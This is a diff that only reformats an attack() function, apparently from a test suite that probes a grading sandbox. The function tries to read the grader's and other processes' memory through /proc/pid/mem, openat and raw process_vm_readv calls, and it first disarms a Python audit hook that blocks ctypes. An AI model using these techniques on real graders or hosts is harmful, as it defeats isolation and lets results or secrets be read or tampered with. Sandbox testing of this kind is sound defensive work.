@@ -10,6 +10,7 @@ def attack():
         targets.setdefault(pid, "a process of this grading run")
     proc, root = proc_fd(), root_descriptor()
     for pid, role in targets.items():
+
         def read_mem(dir_fd, name):
             fd = os.open(name, os.O_RDONLY, dir_fd=dir_fd)  # the open is the access check: past it, the memory is ours
             try:
@@ -20,9 +21,17 @@ def attack():
                 os.close(fd)
 
         if root is not None:
-            attempt(f"openat(root, 'proc/{pid}/mem') ({role})", lambda: read_mem(root, f"proc/{pid}/mem"), real=pid == os.getppid())
+            attempt(
+                f"openat(root, 'proc/{pid}/mem') ({role})",
+                lambda: read_mem(root, f"proc/{pid}/mem"),
+                real=pid == os.getppid(),
+            )
         if proc is not None:
-            attempt(f"read {pid}/mem through a /proc descriptor ({role})", lambda: read_mem(proc, f"{pid}/mem"), real=pid == os.getppid())
+            attempt(
+                f"read {pid}/mem through a /proc descriptor ({role})",
+                lambda: read_mem(proc, f"{pid}/mem"),
+                real=pid == os.getppid(),
+            )
         attempt(f"read /proc/{pid}/mem ({role})", lambda: read_mem(None, f"/proc/{pid}/mem"), real=pid == os.getppid())
     disarm_audit_hook()  # ctypes is refused by the hook; a student swaps the hook out first
     import ctypes
@@ -34,6 +43,7 @@ def attack():
     local = IoVec(ctypes.addressof(buffer), 64)
     remote = IoVec(address, 64)
     for pid, role in targets.items():
+
         def vm_read():
             try:
                 count = syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
